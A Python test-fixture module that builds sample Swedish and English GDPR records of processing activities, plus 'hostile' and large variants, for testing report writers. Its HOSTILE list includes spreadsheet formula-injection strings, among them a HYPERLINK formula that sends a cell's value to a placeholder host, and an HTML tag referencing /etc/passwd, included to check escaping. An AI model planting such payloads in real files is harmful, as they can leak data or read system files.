"""Reports for the tests of the writers: a realistic one in either language, a hostile one, a large one."""

from dataclasses import dataclass, replace

from ropa_desktop.exports.report import Block, Column, Group, Line, Part, Report, Row, Table
from ropa_desktop.i18n import Language

HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"Klicka")',
    "+46 8 123 456 78",
    "-2+3",
    "@SUM(A1:A9)",
    "\tindraget",
    "#N/A",
    "TRUE",
    "00123",
    "<img src='file:///etc/passwd'>",
    "<b>fet</b> & <a href='http://example.invalid'>länk</a> &amp; &nbsp;",
    "noll\x00klocka\x07slut",
    "bokstavligt _x000D_ och _x0041_",
    "emoji 😀 och kinesiska 漢字",
    "rad ett\nrad två\r\nrad tre",
    "(oparad \\ (parentes",
    "mjukt\u00adbindestreck, hårt\u00a0mellanslag, noll\u200bbredd",
    "Łódź, Ελλάδα, Київ, Đà Nẵng, İstanbul, Reykjavík",
    "personuppgiftsbiträdesavtalsförhandlingsprotokollsbilagor",
    "https://example.invalid/" + "mycket-lang-adress/" * 20,
)

_NO_PROCESSING = ("Ingen behandling utförs för andras räkning.", "No processing is done for others.")

_FIELDS = {
    "purpose": ("Ändamål", "Purposes", "30.1 b"),
    "subjects": ("Kategorier av registrerade", "Categories of data subjects", "30.1 c"),
    "data": ("Kategorier av personuppgifter", "Categories of personal data", "30.1 c"),
    "recipients": ("Kategorier av mottagare", "Categories of recipients", "30.1 d"),
    "transfers": ("Överföringar till tredjeland", "Transfers to third countries", "30.1 e"),
    "retention": ("Tidsfrister för radering", "Time limits for erasure", "30.1 f"),
    "security": ("Tekniska och organisatoriska säkerhetsåtgärder", "Security measures", "30.1 g"),
    "basis": ("Rättslig grund", "Legal basis", "6.1"),
    "assessment": ("Konsekvensbedömning", "Impact assessment", "35"),
    "owner": ("Ansvarig i verksamheten", "Owner", ""),
}


@dataclass(frozen=True)
class _Activity:
    number: str
    name: str
    purpose: tuple[str, ...]
    subjects: tuple[str, ...]
    data: tuple[str, ...]
    recipients: tuple[str, ...]
    transfers: tuple[str, ...]
    retention: tuple[str, ...]
    basis: tuple[str, ...]


_ACTIVITIES = (
    _Activity(
        "B-001",
        "Rekrytering",
        (
            "Pröva ansökningar till utlysta tjänster och välja ut den som ska anställas.",
            "Kunna visa att urvalet har gått rätt till om en sökande klagar på diskriminering.",
        ),
        ("Arbetssökande", "Referenspersoner"),
        (
            "Namn, adress, telefonnummer och e-postadress",
            "Ansökningshandlingar: personligt brev, meritförteckning, betyg och intyg",
            "Anteckningar från intervjuer och referenstagning",
            "Personnummer, när en anställning ska avtalas",
        ),
        (
            "Rekryteringssystemets leverantör (personuppgiftsbiträde)",
            "Fackliga organisationer vid förhandling",
        ),
        (),
        (
            (
                "Två år efter att tjänsten tillsattes, det vill säga så länge talan om diskriminering "
                "kan väckas (6 kap. 4 och 6 §§ diskrimineringslagen)."
            ),
            "Spontanansökningar: sex månader.",
        ),
        (
            (
                "Intresseavvägning (artikel 6.1 f): bolaget behöver kunna jämföra sökande och den sökande "
                "har själv lämnat uppgifterna för det ändamålet."
            ),
        ),
    ),
    _Activity(
        "B-002",
        "Löner, semester och annan personaladministration",
        ("Betala rätt lön och redovisa skatt.", "Administrera semester, sjukfrånvaro och föräldraledighet."),
        ("Anställda", "Tidigare anställda", "Anställdas närmaste anhöriga"),
        (
            "Namn, personnummer och kontonummer",
            "Lön, förmåner, skatt och utmätning",
            "Frånvaro med orsak, däribland uppgifter om hälsa (artikel 9)",
            "Medlemskap i fackförening, när avgiften dras på lönen (artikel 9)",
            "Kontaktuppgifter till närmaste anhörig",
        ),
        (
            "Skatteverket",
            "Försäkringskassan",
            "Kronofogdemyndigheten vid utmätning av lön",
            "Bank",
            "Tjänstepensionsbolag och försäkringsgivare enligt kollektivavtal",
            "Lönesystemets leverantör (personuppgiftsbiträde)",
        ),
        ("Förenade kungariket: lönesystemets support. Beslut om adekvat skyddsnivå (artikel 45).",),
        (
            (
                "Räkenskapsinformation: sju år efter utgången av det kalenderår då räkenskapsåret avslutades "
                "(7 kap. 2 § bokföringslagen)."
            ),
            "Övriga uppgifter: två år efter att anställningen upphörde.",
        ),
        (
            "Rättslig förpliktelse (artikel 6.1 c): skatteförfarandelagen och bokföringslagen.",
            "Avtal (artikel 6.1 b): anställningsavtalet.",
        ),
    ),
    _Activity(
        "B-003",
        "Kundservice och reklamationer",
        ("Besvara frågor och handlägga reklamationer enligt konsumentköplagen.",),
        ("Kunder", "Ombud för kunder"),
        ("Namn och kontaktuppgifter", "Köphistorik", "Ärendets innehåll och bilder på varan"),
        ("Transportföretag", "Ärendehanteringssystemets leverantör (personuppgiftsbiträde)"),
        (
            (
                "USA: ärendehanteringssystemets drift. Standardavtalsklausuler (artikel 46.2 c) med "
                "kompletterande skyddsåtgärder; leverantören är inte ansluten till Data Privacy Framework."
            ),
        ),
        ("Tre år efter att ärendet avslutades (reklamationsfristen).",),
        ("Avtal (artikel 6.1 b).",),
    ),
    _Activity(
        "B-004",
        "Kamerabevakning av lagerlokalen i Björkängen",
        ("Förebygga och utreda stöld och skadegörelse.",),
        ("Anställda", "Besökare", "Förare från transportföretag"),
        ("Rörliga bilder utan ljud",),
        ("Polismyndigheten vid förundersökning", "Försäkringsbolag"),
        (),
        (),
        ("Intresseavvägning (artikel 6.1 f).",),
    ),
    _Activity(
        "B-005",
        "Nyhetsbrev och direktmarknadsföring till kunder och tidigare kunder",
        ("Skicka erbjudanden om varor som liknar dem som kunden har köpt.",),
        ("Kunder", "Tidigare kunder"),
        ("E-postadress", "Köphistorik", "Öppnade utskick och klick"),
        ("Utskickstjänstens leverantör (personuppgiftsbiträde)",),
        ("Utanför EU och EES: landet är inte angivet.",),
        ("Tills kunden avregistrerar sig, dock längst två år efter senaste köp.",),
        ("Intresseavvägning (artikel 6.1 f) och 19 § marknadsföringslagen.",),
    ),
)


class _Words:
    """The sample's own words, in the language of the report."""

    def __init__(self, language: Language) -> None:
        self.language = language

    def __call__(self, swedish: str, english: str) -> str:
        return swedish if self.language == "sv" else english

    def label(self, field: str) -> str:
        return self(*_FIELDS[field][:2])

    def line(self, field: str, values: tuple[str, ...]) -> Line:
        article = _FIELDS[field][2]
        shown = article and f"art. {article}"
        return Line(
            self.label(field), values or (self("Ej angivet", "Not stated"),), shown, missing=not values
        )


def _block(activity: _Activity, say: _Words) -> Block:
    measures = ("Behörighetsstyrning efter roll", "Kryptering av bärbara datorer", "Loggning av åtkomst")
    demanded = Group(
        say("Uppgifter enligt artikel 30.1", "Required by Article 30(1)"),
        (
            say.line("purpose", activity.purpose),
            say.line("subjects", activity.subjects),
            say.line("data", activity.data),
            say.line("recipients", activity.recipients),
            say.line("transfers", activity.transfers or (say("Inga överföringar sker.", "No transfers."),)),
            say.line("retention", activity.retention),
            say.line("security", measures),
        ),
    )
    grounds = Group(say("Rättslig grund", "Legal basis"), (say.line("basis", activity.basis),), beyond=True)
    unneeded = say(
        "Behövs inte: högst ett av nio kriterier är uppfyllt.", "Not needed: at most one criterion."
    )
    others = Group(
        say("Övrigt", "Other"),
        (say.line("assessment", (unneeded,)), say.line("owner", ("HR-chefen",))),
        beyond=True,
    )
    subtitle = say("Personuppgiftsansvarig · aktiv sedan 2018", "Controller · active since 2018")
    groups = (demanded, grounds, others)
    return Block(f"activity-{activity.number}", activity.number, activity.name, subtitle, groups)


def _activities_table(say: _Words) -> Table:
    columns = (
        Column(say("Nr", "No."), 9),
        Column(say("Namn", "Name"), 28),
        Column(say.label("purpose"), 44),
        Column(say.label("recipients"), 40),
        Column(say("Antal personer", "Persons"), 12, kind="number"),
        Column(say("Granskad", "Reviewed"), 12, kind="date"),
        Column(say.label("basis"), 34, beyond=True),
    )
    rows = []
    for position, activity in enumerate(_ACTIVITIES, 1):
        texts = ("\n".join(activity.purpose), "\n".join(activity.recipients))
        reviewed = "2025-03-04" if position % 2 else "2025-03"
        others = (position * 40, reviewed, "\n".join(activity.basis))
        cells = (activity.number, activity.name, *texts, *others)
        rows.append(Row(f"id-{position}", cells, f"activity-{activity.number}"))
    return Table(
        name="Activities",
        title=say("Behandlingar", "Processing activities"),
        columns=columns,
        rows=tuple(rows),
        empty=say("Det finns inga behandlingar.", "There are no processing activities."),
        note=say("Alla behandlingar i organisationen.", "All activities of the organisation."),
    )


def _summary(say: _Words, name: str, field: str) -> Table:
    rows = [
        Row(f"{name}-{activity.number}-{place}", (value, f"{activity.number} {activity.name}"), anchor)
        for activity in _ACTIVITIES
        for place, value in enumerate(getattr(activity, field))
        for anchor in (f"activity-{activity.number}",)
    ]
    columns = (Column(say.label(field), 50), Column(say("Behandling", "Activity"), 30))
    return Table(name, say.label(field), columns, tuple(rows), say("Det finns inga.", "There are none."))


def _processors_table(say: _Words) -> Table:
    return Table(
        "Processors",
        say("Behandlingar som biträde", "Processing for others"),
        (Column(say("Nr", "No."), 9), Column(say("Personuppgiftsansvarig", "Controller"), 40)),
        (),
        say(*_NO_PROCESSING),
    )


def _cover(say: _Words) -> tuple[Line, ...]:
    address = ("Björkängens Möbler AB, 556000-0000", "Verkstadsgatan 7, 123 45 Björkängen")
    established = say("Ingen utsedd: bolaget är etablerat i Sverige.", "None designated.")
    return (
        Line(say("Personuppgiftsansvarig", "Controller"), address, "art. 30.1 a"),
        Line(say("Företrädare", "Representative"), (established,)),
        Line(
            say("Dataskyddsombud", "Data protection officer"),
            (say("Ej angivet", "Not stated"),),
            missing=True,
        ),
        Line(say("Antal behandlingar", "Activities"), ("5",)),
    )


def sample_report(language: Language = "sv") -> Report:
    """A register of five activities as an officer might keep it; the processor's part is empty."""
    say = _Words(language)
    activities = _activities_table(say)
    short = replace(
        activities,
        columns=activities.columns[:-1],
        rows=tuple(replace(row, cells=row.cells[:-1]) for row in activities.rows),
    )
    others = (
        _summary(say, "Recipients", "recipients"),
        _summary(say, "Transfers", "transfers"),
        _processors_table(say),
    )
    controller = Part(
        say("Behandlingar som personuppgiftsansvarig", "Activities as controller"),
        say("Artikel 30.1 i dataskyddsförordningen.", "Article 30(1) of the regulation."),
        tuple(_block(activity, say) for activity in _ACTIVITIES),
        say("Det finns inga.", "There are none."),
    )
    processor = Part(
        say("Behandlingar som personuppgiftsbiträde", "Activities as processor"),
        say("Artikel 30.2 i dataskyddsförordningen.", "Article 30(2) of the regulation."),
        (),
        say(*_NO_PROCESSING),
    )
    return Report(
        language=language,
        title=say("Register över behandlingar", "Record of processing activities"),
        subtitle=say("enligt artikel 30 i dataskyddsförordningen", "under Article 30 of the regulation"),
        organisation="Björkängens Möbler AB",
        version=say("utgåva 4", "edition 4"),
        date="2026-11-22",
        register_id="7f0c2b1e-5d7a-4c51-9f0e-0a8a51c0ffee",
        cover=_cover(say),
        how_to_read=(
            say(
                "Det som artikel 30 inte kräver är avskilt med en linje i marginalen.",
                "What Article 30 does not require is set apart by a line in the margin.",
            ),
            say(
                "En uppgift som krävs men saknas skrivs ut som ”Ej angivet”; den utelämnas aldrig.",
                "A required value that is missing is printed as “Not stated”; it is never left out.",
            ),
        ),
        sheets=(activities, *others),
        summaries=(short, *others),
        parts=(controller, processor),
    )


def hostile_report(text: str, language: Language = "en") -> Report:
    """The sample with one text in every place where a register's text may stand."""
    report = sample_report(language)
    line = Line(text, (text, text), text)
    table = replace(
        report.sheets[0],
        title=text,
        note=text,
        columns=(Column(text, 12), Column(text, 30, kind="date"), Column(text, 20, hidden=True)),
        rows=(Row("1", (text, text, text), "block"), Row("2", (text, None, 7))),
    )
    block = Block("block", text, text, text, (Group(text, (line,)), Group(text, (line,), beyond=True)))
    return replace(
        report,
        title=text,
        subtitle=text,
        organisation=text,
        version=text,
        cover=(line,),
        how_to_read=(text,),
        sheets=(table, replace(table, name="Second", rows=(), empty=text)),
        summaries=(table,),
        parts=(Part(text, text, (block,), text),),
    )


def large_report(activities: int) -> Report:
    """The Swedish sample with as many activities, each numbered anew."""
    report = sample_report("sv")
    part = report.parts[0]
    numbers = [f"B-{number:04}" for number in range(1, activities + 1)]
    blocks = tuple(
        replace(part.blocks[number % len(part.blocks)], anchor=name, number=name)
        for number, name in enumerate(numbers)
    )

    def grown(table: Table) -> Table:
        rows = table.rows and tuple(
            replace(table.rows[number % len(table.rows)], record=name, anchor=name)
            for number, name in enumerate(numbers)
        )
        return replace(table, rows=rows)

    return replace(
        report,
        sheets=tuple(map(grown, report.sheets)),
        summaries=tuple(map(grown, report.summaries)),
        parts=(replace(part, blocks=blocks), *report.parts[1:]),
    )
